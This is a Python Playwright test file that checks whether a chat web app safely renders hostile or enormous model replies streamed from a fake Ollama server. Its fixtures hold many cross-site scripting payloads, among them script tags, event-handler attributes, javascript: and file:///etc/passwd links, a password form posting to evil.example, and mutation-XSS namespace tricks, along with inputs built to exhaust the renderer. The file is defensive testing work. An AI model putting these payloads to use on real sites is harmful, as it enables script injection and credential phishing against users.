"""Hostile replies: they run no scripts, load nothing, cannot leave their element, and do not block the page."""

import json

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.chat_page import messages, send_prompt
from tests.browser.test_messages import live_and_reloaded
from tests.fakes.ollama import Head, Lines, ScriptedOllama, last_line, line

TIMEOUT = 60_000
"""Milliseconds to render a reply of megabytes."""

WATCH = """
    window.hits = [];
    window.alert = (what) => hits.push(`alert ${what}`);
    addEventListener("securitypolicyviolation", (event) => hits.push(`violation of ${event.violatedDirective}`));
"""

INSPECT = """(reply) => {
    const allowed = new Set(["A", "B", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "H1", "H2", "H3", "HR",
        "I", "KBD", "LI", "OL", "P", "PRE", "SPAN", "STRONG", "SUB", "SUP", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR",
        "U", "UL"]);
    const attributes = new Set(["align", "aria-label", "class", "data-language", "dir", "href", "rel", "role", "start",
        "tabindex", "target", "title", "type"]);
    const classes = new Set(["block", "plain", "code-block", "code-bar", "code-language", "copy-code", "table-frame",
        "math"]);
    const found = [];
    for (const element of reply.querySelectorAll("*")) {
        if (!allowed.has(element.tagName)) found.push(element.tagName);
        if (element.tagName === "BUTTON" && element.className !== "copy-code") found.push(element.outerHTML);
        for (const { name, value } of element.attributes) {
            if (!attributes.has(name)) found.push(`${element.tagName} ${name}`);
            if (name === "href" && !/^(https?:\\/\\/|mailto:)/.test(value)) found.push(value);
            if (name === "title" && element.tagName !== "A") found.push(value);
        }
        for (const one of element.classList)
            if (!classes.has(one) && !/^(hljs-|language-)/.test(one)) found.push(`class ${one}`);
    }
    return found;
}"""

RUN = "alert(1)"
HOSTILE = {
    "script": f"<script>{RUN}</script>\n\nText <script src=https://evil.example/x.js></script> continues.",
    "handler": f"<img src=x onerror={RUN}> <b onclick={RUN} onmouseover={RUN}>bold</b> <svg onload={RUN}>\n\n"
    f"<b onclick={RUN}>\n\n<b>\n<i onclick={RUN}>soft</i></b>\n\n<b\nonclick='{RUN}'>x</b> <b/onclick={RUN}>y</b>",
    "javascript link": f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](&#106;avascript:{RUN}) <javascript:{RUN}> "
    f"[d](java\tscript:{RUN}) [e](vbscript:x) <a href='javascript:{RUN}'>f</a> <a href=' \x01javascript:{RUN}'>g</a>"
    f'<a href="javascript:{RUN}">h</a> [i]\n\n[i]: javascript:{RUN}',
    "data link": "[a](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHNjcmlwdD4=) "
    "[c](file:///etc/passwd) [d](blob:x) [e](/llmchat) [f](//evil.example) ![g](data:image/svg+xml,<svg/>)",
    "style": "<p style='position:fixed;inset:0;background:red'>over</p> <style>*{display:none}</style> "
    "<link rel=stylesheet href=https://evil.example/x.css> <b class='alert composer'>b</b> "
    "<b id=prompt name=send>c</b>",
    "form": "<form action=https://evil.example><input name=password autofocus><button>Go</button>"
    "<textarea></textarea><select></select></form>",
    "frame": "<iframe src=https://evil.example srcdoc='<script>parent.alert(1)</script>'></iframe>"
    "<object data=https://evil.example></object><embed src=https://evil.example><base href=https://evil.example>"
    "<meta http-equiv=refresh content='0;url=https://evil.example'><video src=https://evil.example autoplay></video>",
    "namespaces": "<math><mtext><table><mglyph><style><!--</style><img "
    "title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'><svg>"
    "<desc><![CDATA[</desc><script>alert(1)</script>]]></svg><template><script>alert(1)</script></template>",
    "broken html": f"</div></article></main><b><i></b></i><p><li><table><td>x<tr></p></body></html><!-- <![CDATA[{RUN}",
    "broken markdown": '**bold _soft `code [link](http://a.example "t\n\n> - 1. # ```\n| a |\n|--|--|\n\\[ $x$ \\( ![i',
    "title": f'[a](https://a.example "x\\" onclick=\\"{RUN}") ![b](https://a.example/"onerror="{RUN}) '
    f"[c](https://a.example/'onclick='{RUN})\n\n```a\"onclick={RUN} <b>\nx\n```\n\n```<img/src/onerror={RUN}>\nx\n```",
    "prototype": "[__proto__]: https://a.example\n[constructor]: https://b.example\n\n"
    "[constructor] [__proto__] [toString]\n\n"
    "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```",
}

LARGE = {
    "nested quotes": ">" * 3_000 + " deep",
    "nested lists": "\n".join(["  " * depth + "- item" for depth in range(150)]),
    "nested numbers": "1. " * 3_000 + "deep",
    "nested marks": "*_**~~[" * 2_000 + "x" + "](http://a.example)~~**_*" * 2_000,
    "marks": "[![" * 5_000 + "`" * 5_001 + "<" * 5_000 + "&#x" * 5_000 + "\\" * 5_001,
    "many blocks": "a\n\n" * 12_000,
    "many definitions": "".join([f"[a{number}] [b]\n\n[a{number}]: https://a.example\n\n" for number in range(800)]),
    "long code": "```js\n" + "let x = [`${" * 20_000,
}


@pytest.fixture
def reply(page: Page) -> Locator:
    """The reply, on a page that records alerts and policy violations."""
    expect(page.locator("#welcome")).to_be_visible()
    page.add_init_script(WATCH)
    page.evaluate(f"() => {{ {WATCH} }}")
    return messages(page).nth(1).locator(".markdown")


def check(page: Page, reply: Locator) -> None:
    """Check that no script ran and the reply contains only allowed elements."""
    assert reply.evaluate(INSPECT) == []
    assert page.evaluate("hits") == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.evaluate("document.querySelectorAll('#prompt, main, #messages').length") == 3


def stream_reply(page: Page, ollama: ScriptedOllama, text: str, pieces: int, number: int = 1) -> None:
    """Stream the conversation's reply of this number in so many lines, and wait for its end."""
    size = -(-len(text) // pieces)
    lines = [line(text[at : at + size]) for at in range(0, len(text), size)]
    ollama.script(Head(), Lines(*lines, last_line()))
    send_prompt(page, "Continue")
    expect(messages(page)).to_have_count(2 * number)
    expect(page.locator(".streaming")).to_have_count(0, timeout=TIMEOUT)


def test_hostile_text_runs_nothing_and_the_page_keeps_working(
    page: Page, reply: Locator, ollama: ScriptedOllama
) -> None:
    for number, text in enumerate(HOSTILE.values(), 1):
        stream_reply(page, ollama, text, pieces=25, number=number)
    for _ in live_and_reloaded(page):
        for number, name in enumerate(HOSTILE, 1):
            one = messages(page).nth(2 * number - 1).locator(".markdown")
            expect(one, name).not_to_be_empty()
            for element in one.locator("a, b, code").all()[:20]:
                element.dispatch_event("mouseover")
            check(page, one)
    send_prompt(page, "And now?")
    expect(messages(page).last).to_have_text("w0 w1 w2 w3 w4")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(text, id=name, marks=[] if name == "nested lists" else pytest.mark.extended)
        for name, text in LARGE.items()
    ],
)
def test_the_page_keeps_working_after_a_large_reply(
    page: Page, reply: Locator, ollama: ScriptedOllama, text: str
) -> None:
    stream_reply(page, ollama, text, pieces=25)
    for _ in live_and_reloaded(page):
        expect(reply).not_to_be_empty()
        check(page, reply)
    send_prompt(page, "And now?")
    expect(messages(page).last).to_have_text("w0 w1 w2 w3 w4")


def test_disallowed_html_is_shown_as_text(page: Page, reply: Locator, ollama: ScriptedOllama) -> None:
    stream_reply(page, ollama, "Use <script>alert(1)</script> and List<String>.\n\n<form>\n<input>\n</form>", pieces=9)
    for _ in live_and_reloaded(page):
        expect(reply).to_contain_text("Use <script>alert(1)</script> and List<String>.")
        expect(reply).to_contain_text("<form> <input> </form>")


@pytest.mark.extended
@pytest.mark.parametrize(
    "unit",
    [
        pytest.param("x", id="letters", marks=pytest.mark.extended),
        pytest.param("word ", id="words", marks=pytest.mark.extended),
        pytest.param("**b** [l](http://a.example) `c` ", id="markdown"),
    ],
)
def test_a_line_of_five_megabytes_is_shown(page: Page, reply: Locator, ollama: ScriptedOllama, unit: str) -> None:
    text = unit * (5_000_000 // len(unit))
    stream_reply(page, ollama, text, pieces=1)
    for _ in live_and_reloaded(page):
        expect(reply).not_to_be_empty(timeout=TIMEOUT)
        assert reply.evaluate("reply => reply.textContent.length") == len(text)
        check(page, reply)
    send_prompt(page, "And now?")
    expect(messages(page).last).to_have_text("w0 w1 w2 w3 w4", timeout=TIMEOUT)


def test_bidirectional_control_characters_affect_only_their_own_text(
    page: Page, reply: Locator, ollama: ScriptedOllama
) -> None:
    override, isolate = "\u202e", "\u2067"
    text = f"{override}live{isolate} **evil {override}bold** [link{override}](https://a.example) after"
    stream_reply(page, ollama, f"{text}\n\nNext paragraph.\n\n| {override}a | b |\n|---|---|\n| c | d |", pieces=5)
    send_prompt(page, f"Prompt {override}backwards")
    expect(messages(page).nth(3)).to_have_text("w0 w1 w2 w3 w4")
    offset = """(element, word) => {
        const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
        while (walker.nextNode()) {
            const at = walker.currentNode.data.indexOf(word);
            if (at < 0) continue;
            const range = document.createRange();
            const place = (index) => {
                range.setStart(walker.currentNode, index);
                range.setEnd(walker.currentNode, index + 1);
                return range.getBoundingClientRect().left;
            };
            return place(at + word.length - 1) - place(at);
        }
    }"""
    for _ in live_and_reloaded(page):
        assert reply.evaluate(offset, "live") < 0, "the override applies to its own text"
        for word in ("Next", "paragraph"):
            assert reply.evaluate(offset, word) > 0, word
        first, second = (reply.locator(f"tr:last-child td:nth-child({number})").bounding_box() for number in (1, 2))
        assert first and second and first["x"] < second["x"]
        prompt = messages(page).nth(2)
        assert prompt.evaluate(offset, "Prompt") > 0
        assert messages(page).nth(3).evaluate(offset, "w0") > 0
        check(page, reply)


@pytest.mark.extended
def test_a_hostile_reply_keeps_its_source_text(page: Page, ollama: ScriptedOllama) -> None:
    text = "<b onclick=alert(1)>\r\n**x** \u202e"
    source = page.evaluate(
        """async (text) => {
            const { MessageView } = await import("/static/chat/messages/message_view.js");
            return new MessageView("assistant", text).content.text;
        }""",
        text,
    )
    assert json.dumps(source) == json.dumps(text)
